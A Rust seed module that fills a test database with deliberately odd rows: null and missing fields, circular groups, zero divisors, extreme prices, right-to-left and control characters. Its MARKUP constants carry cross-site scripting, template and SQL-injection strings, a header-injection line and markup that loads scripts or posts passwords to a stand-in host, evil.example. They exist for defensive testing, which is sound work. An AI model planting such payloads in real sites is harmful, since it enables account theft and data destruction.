//! Rows that a real database holds and a tidy one does not: missing, null, odd and hostile values. Sown on demand only, with
//! the sentinels. The part number says what is odd.

mod documents;

use std::sync::LazyLock;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use resvg::tiny_skia::Pixmap;
use rust_decimal::Decimal;
use serde_json::{Value as Json, json};
use time::macros::datetime;
use uuid::Uuid;

use crate::domain::value::{Ml, Reference, Value, decimal_json};
use crate::seed::catalogue::{GROUPS, PRODUCTS, eur};
use crate::seed::seller::{CATEGORIES, COMPANIES, CURRENCIES, PRICE_TYPES, UNITS};
use crate::seed::sentinels::{GROUP, people, sow_access, sow_address, sow_customer, sow_product};
use crate::seed::{SeedError, Sower, ml, text, to};

const PRICES: &str = "Crm_Pricing_ProductPrices";
const PICTURES: &str = "General_Products_ProductPictures";

/// Customers of the person for whom all is odd.
pub(in crate::seed) const CUSTOMERS_OF_ODD: &[&str] =
    &["ODD-MARKUP", "ODD-RTL", "ODD-LONG", "ODD-NULL"];

/// Tags, attributes, schemes, entities, templates, formulas and SQL: nothing of it may come alive anywhere.
const MARKUP: &str = "<script>alert('odd')</script><img src=x onerror=alert(1)> \"' onmouseover=\"alert(2) {{7*7}} ${7*7} =1+1 &amp;lt; '; DROP TABLE--";
/// The same with more room: what a product's page could carry.
const MARKUP_HTML: &str = "<p onclick=\"alert(1)\">Odd</p><script src=\"https://evil.example/x.js\"></script><iframe src=\"https://evil.example\"></iframe>\
<a href=\"javascript:alert(1)\">link</a><a href=\"data:text/html,<script>alert(1)</script>\">data</a><svg onload=alert(1)><style>@import 'https://evil.example'</style>\
<form action=\"https://evil.example\"><input name=password></form><base href=\"https://evil.example\"><meta http-equiv=refresh content=\"0;url=https://evil.example\"></textarea></div></main>";
/// Hebrew and Arabic, an override that turns the rest around, and a character of no width.
const RIGHT_TO_LEFT: &str = "מנורת שולחן \u{202e}fdp.gnp مصباح\u{200b} \u{2067}123";

/// As long as a name may be.
static LONG: LazyLock<String> = LazyLock::new(|| "Щ".repeat(254));

fn odd(value: Json) -> Value {
    Value::Odd(Some(value))
}

const MISSING: Value = Value::Odd(None);

pub(super) fn sow(sower: &mut Sower) -> Result<(), SeedError> {
    groups(sower)?;
    units(sower)?;
    texts(sower)?;
    missing(sower)?;
    numbers(sower)?;
    pictures(sower)?;
    belongings(sower)?;
    customers(sower)?;
    documents::sow(sower)
}

/// A group that is its own parent, two that are each other's, one without any value.
fn groups(sower: &mut Sower) -> Result<(), SeedError> {
    for (code, parent, path) in [
        ("ODD-SELF", "ODD-SELF", "/ODD-SELF/ODD-SELF/"),
        ("ODD-HEN", "ODD-EGG", "/ODD-EGG/ODD-HEN/"),
        ("ODD-EGG", "ODD-HEN", "/ODD-HEN/ODD-EGG/"),
    ] {
        sower.row(
            GROUPS,
            code,
            vec![
                ("Code", text(code)),
                ("FullPath", text(path)),
                ("Name", ml(code, code)),
                ("ParentGroup", to(GROUPS, parent)),
            ],
        )?;
        sow_product(
            sower,
            &format!("{code}-MEMBER"),
            vec![("ProductGroup", to(GROUPS, code))],
        )?;
    }
    sower.row(
        GROUPS,
        "ODD-BARE",
        vec![
            ("Code", Value::Null),
            ("FullPath", Value::Null),
            ("Name", Value::Null),
        ],
    )?;
    sower.row(
        GROUPS,
        "ODD-MARKUP",
        vec![
            ("Code", text("<b>")),
            ("FullPath", text("/../<b>/%2e%2e/")),
            ("Name", ml(MARKUP, MARKUP)),
        ],
    )?;
    sow_product(
        sower,
        "ODD-GROUP-MARKUP",
        vec![("ProductGroup", to(GROUPS, "ODD-MARKUP"))],
    )?;
    Ok(())
}

/// A Cyrillic code (as real databases have), and a unit that divides by nothing.
fn units(sower: &mut Sower) -> Result<(), SeedError> {
    for (code, divisor) in [("бр.", Decimal::ONE), ("ODD/0", Decimal::ZERO)] {
        sower.row(
            UNITS,
            code,
            vec![
                ("Code", text(code)),
                ("Name", ml(code, code)),
                ("MeasurementCategory", to(CATEGORIES, "pieces")),
                ("Multiplier", Value::Int(1)),
                ("Divisor", Value::Decimal(divisor)),
            ],
        )?;
        let one = Value::Quantity(Decimal::ONE, code.to_owned());
        sow_product(
            sower,
            if divisor.is_zero() {
                "ODD-UNIT-ZERO"
            } else {
                "ODD-UNIT-CYRILLIC"
            },
            vec![
                ("MeasurementUnit", to(UNITS, code)),
                ("StandardLotSizeBase", one),
            ],
        )?;
    }
    sow_product(
        sower,
        "ODD-UNIT-UNKNOWN",
        vec![("MeasurementUnit", nowhere(UNITS))],
    )?;
    Ok(())
}

fn texts(sower: &mut Sower) -> Result<(), SeedError> {
    for (number, name) in [
        ("ODD-MARKUP", ml(MARKUP, MARKUP)),
        ("ODD-RTL", ml(RIGHT_TO_LEFT, RIGHT_TO_LEFT)),
        ("ODD-LONG", ml(&"W".repeat(254), &LONG)),
        (
            "ODD-CONTROL",
            ml("Bell\u{7}, nul\u{0}, lines\r\n\r\nSet-Cookie: odd=1", "\t"),
        ),
        ("ODD-EMOJI", ml("🧑🏽‍🚀 e\u{301}\u{301}\u{301}\u{301}", "🇧🇬")),
        ("ODD-EMPTY", ml("", "")),
        ("ODD-BLANK", ml("  \u{a0} ", "\u{200b}")),
        (
            "ODD-TONGUE",
            Value::Ml(Ml(vec![("DE".to_owned(), "Nur auf Deutsch".to_owned())])),
        ),
        (
            "ODD-LOWER",
            Value::Ml(Ml(vec![("en".to_owned(), "Lower-case key".to_owned())])),
        ),
    ] {
        sow_product(
            sower,
            number,
            vec![("Description", name.clone()), ("Name", name)],
        )?;
    }
    for (number, part) in [
        ("ODD-PART-MARKUP", "<b>'\"&/../?#%00"),
        ("ODD-PART-LONG", "W0123456789012345678901234567890"),
        ("ODD-TWIN-1", "ODD-TWIN"),
        ("ODD-TWIN-2", "ODD-TWIN"),
    ] {
        sow_product(sower, number, vec![("PartNumber", text(part))])?;
    }
    sow_product(
        sower,
        "ODD-HTML",
        vec![("CatalogDescriptionHtml", text(MARKUP_HTML))],
    )?;
    Ok(())
}

/// Members that are null, not there, of another type, or lead nowhere.
fn missing(sower: &mut Sower) -> Result<(), SeedError> {
    for member in [
        "PartNumber",
        "Name",
        "ProductGroup",
        "ProductType",
        "MeasurementUnit",
        "BaseMeasurementCategory",
        "StandardPricePerLot",
        "StandardLotSizeBase",
    ] {
        let name = member.to_uppercase();
        sow_product(
            sower,
            &format!("ODD-NULL-{name}"),
            vec![(member, Value::Null)],
        )?;
        sow_product(sower, &format!("ODD-NO-{name}"), vec![(member, MISSING)])?;
        sow_product(
            sower,
            &format!("ODD-TYPE-{name}"),
            vec![(member, odd(json!([7, { "Value": "seven" }])))],
        )?;
    }
    sow_product(
        sower,
        "ODD-NOWHERE",
        vec![
            ("ProductGroup", nowhere(GROUPS)),
            ("ProductType", nowhere("General_Products_ProductTypes")),
        ],
    )?;
    sow_product(
        sower,
        "ODD-LINK",
        vec![(
            "ProductGroup",
            odd(json!({ "@odata.id": "https://evil.example/General_Products_ProductGroups(1)" })),
        )],
    )?;
    sow_product(
        sower,
        "ODD-MEMBER",
        vec![
            ("ABCClass", odd(json!("Z"))),
            ("UseLots", odd(json!("Sometimes"))),
        ],
    )?;
    sow_product(
        sower,
        "ODD-DATE",
        vec![
            ("UpdateTime", odd(json!("0001-01-01T00:00:00"))),
            (
                "AggregateLastUpdateTimeUtc",
                odd(json!("9999-12-31T24:00:00Z")),
            ),
        ],
    )?;
    Ok(())
}

fn numbers(sower: &mut Sower) -> Result<(), SeedError> {
    for (number, price) in [
        ("ODD-PRICE-NEGATIVE", eur(Decimal::from(-5))),
        ("ODD-PRICE-ZERO", eur(Decimal::ZERO)),
        // As it travels only: the instance's own sums stay in bounds.
        (
            "ODD-PRICE-MOST",
            odd(json!({ "Value": decimal_json(Decimal::MAX), "Currency": "EUR" })),
        ),
        ("ODD-PRICE-LEAST", eur(Decimal::new(1, 20))),
        (
            "ODD-PRICE-CURRENCY",
            Value::Amount(Decimal::TEN, "¤".to_owned()),
        ),
        (
            "ODD-PRICE-EXPONENT",
            odd(json!({ "Value": 1e300, "Currency": "EUR" })),
        ),
        (
            "ODD-PRICE-TEXT",
            odd(json!({ "Value": "ten", "Currency": 10 })),
        ),
        ("ODD-PRICE-HALF", odd(json!({ "Value": 10 }))),
    ] {
        sow_product(sower, number, vec![("StandardPricePerLot", price)])?;
    }
    for (number, lot) in [
        ("ODD-LOT-ZERO", Decimal::ZERO),
        ("ODD-LOT-NEGATIVE", Decimal::from(-3)),
    ] {
        let lot = Value::Quantity(lot, "pcs".to_owned());
        sow_product(sower, number, vec![("StandardLotSizeBase", lot)])?;
    }
    sow_product(
        sower,
        "ODD-LEAST-NEGATIVE",
        vec![(
            "MinimalSalesQuantityBase",
            Value::Decimal(Decimal::from(-1)),
        )],
    )?;
    price_row(
        sower,
        "ODD-ROW-NEGATIVE",
        eur(Decimal::from(-1)),
        Decimal::ONE,
    )?;
    price_row(
        sower,
        "ODD-ROW-PER-NOTHING",
        eur(Decimal::TEN),
        Decimal::ZERO,
    )?;
    price_row(sower, "ODD-ROW-NULL", Value::Null, Decimal::ONE)?;
    price_row(sower, "ODD-ROW-NO", MISSING, Decimal::ONE)?;
    Ok(())
}

/// A product with one price row.
fn price_row(sower: &mut Sower, number: &str, price: Value, per: Decimal) -> Result<(), SeedError> {
    sow_product(sower, number, Vec::new())?;
    sower.row(
        PRICES,
        number,
        vec![
            ("Product", to(PRODUCTS, number)),
            ("Price", price),
            ("PriceQuantity", Value::Quantity(per, "pcs".to_owned())),
            ("Currency", to(CURRENCIES, "EUR")),
            ("PriceQuantityMeasurementUnit", to(UNITS, "pcs")),
            ("EnterpriseCompany", to(COMPANIES, "ognishte")),
            ("PriceType", to(PRICE_TYPES, "WEB")),
        ],
    )?;
    Ok(())
}

/// Three megabytes, nothing, and no picture at all.
fn pictures(sower: &mut Sower) -> Result<(), SeedError> {
    static LARGE: LazyLock<String> = LazyLock::new(|| STANDARD.encode(noise(1024)));
    for (number, bytes) in [
        ("ODD-PICTURE-LARGE", odd(json!(*LARGE))),
        ("ODD-PICTURE-EMPTY", odd(json!(""))),
        ("ODD-PICTURE-NULL", Value::Null),
        ("ODD-PICTURE-NO", MISSING),
        ("ODD-PICTURE-TEXT", odd(json!(STANDARD.encode(MARKUP_HTML)))),
        ("ODD-PICTURE-BASE64", odd(json!("%%% no base64 %%%"))),
        (
            "ODD-PICTURE-SVG",
            odd(json!(STANDARD.encode(
                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"
            ))),
        ),
    ] {
        sow_product(sower, number, Vec::new())?;
        sower.row(
            PICTURES,
            number,
            vec![
                ("Product", to(PRODUCTS, number)),
                ("PictureNo", Value::Int(1)),
                ("IsDefault", Value::Bool(true)),
                ("PictureSizeClass", Value::Member("LargePictureFullSize")),
                ("Picture", bytes),
                ("LastUpdateTime", Value::Time(sower.now)),
            ],
        )?;
    }
    Ok(())
}

/// A picture that cannot be pressed together: every point is another colour.
fn noise(side: u32) -> Vec<u8> {
    let Some(mut pixmap) = Pixmap::new(side, side) else {
        return Vec::new();
    };
    let mut state: u32 = 0x2545_f491;
    for point in pixmap.data_mut().chunks_exact_mut(4) {
        // xorshift32: the same picture in every run.
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        let [red, green, blue, _] = state.to_le_bytes();
        point.copy_from_slice(&[red, green, blue, u8::MAX]);
    }
    pixmap.encode_png().unwrap_or_default()
}

/// Codes, variants, units and relations that make no sense.
fn belongings(sower: &mut Sower) -> Result<(), SeedError> {
    let number = "ODD-BELONGINGS";
    sow_product(sower, number, Vec::new())?;
    let product = || ("Product", to(PRODUCTS, number));
    sower.row(
        "General_Products_ProductCodes",
        number,
        vec![product(), ("ProductCodeField", MISSING)],
    )?;
    sower.row(
        "General_Products_ProductVariants",
        number,
        vec![product(), ("Code", Value::Null), ("Name", Value::Null)],
    )?;
    sower.row(
        "General_Products_ProductDimensions",
        number,
        vec![
            product(),
            (
                "SourceQuantity",
                Value::Quantity(Decimal::ZERO, "box".to_owned()),
            ),
            ("SourceQuantityUnit", to(UNITS, "box")),
            (
                "DestQuantity",
                Value::Quantity(Decimal::from(-4), "pcs".to_owned()),
            ),
            ("DestQuantityUnit", to(UNITS, "pcs")),
        ],
    )?;
    for (name, target) in [
        ("self", to(PRODUCTS, number)),
        ("nowhere", nowhere(PRODUCTS)),
        ("missing", MISSING),
    ] {
        sower.row(
            "General_Products_ProductRelations",
            &format!("{number} {name}"),
            vec![
                ("FromProduct", to(PRODUCTS, number)),
                ("ToProduct", target),
                (
                    "RelationType",
                    to("General_Products_ProductRelationTypes", "GOES"),
                ),
            ],
        )?;
    }
    Ok(())
}

fn customers(sower: &mut Sower) -> Result<(), SeedError> {
    for (number, name) in [
        ("ODD-MARKUP", ml(MARKUP, MARKUP)),
        ("ODD-RTL", ml(RIGHT_TO_LEFT, RIGHT_TO_LEFT)),
        ("ODD-LONG", ml(&LONG, &LONG)),
        ("ODD-NULL", Value::Null),
    ] {
        sow_customer(sower, number, name, Vec::new())?;
    }
    for address in [
        text(MARKUP),
        text(&LONG),
        text("line one\r\nline two\u{0}"),
        Value::Null,
        MISSING,
        odd(json!(7)),
    ] {
        sow_address(sower, "ODD-MARKUP", address)?;
    }
    if let Some(person) = people()
        .iter()
        .find(|person| person.login.starts_with("odd@"))
    {
        // A customer that is not there, and a role nobody knows.
        sow_access(sower, person, "ODD-NOWHERE", Value::Member("Orders"))?;
        sow_access(sower, person, "000631", odd(json!("Emperor")))?;
    }
    sower.row(
        "Crm_Pricing_LineDiscounts",
        "odd",
        vec![
            ("Description", text(MARKUP)),
            ("DiscountPercent", Value::Decimal(Decimal::from(7))),
            ("Product", to(PRODUCTS, "ODD-MARKUP")),
            ("ProductGroup", to(GROUPS, GROUP)),
            ("FromDate", Value::Time(datetime!(9999-12-31 00:00 UTC))),
            ("DiscountLevel", odd(json!("Nine"))),
        ],
    )?;
    Ok(())
}

/// A reference to a row that does not exist.
fn nowhere(set: &'static str) -> Value {
    Value::Reference(Reference {
        set,
        id: Uuid::from_u128(0x0dd),
    })
}
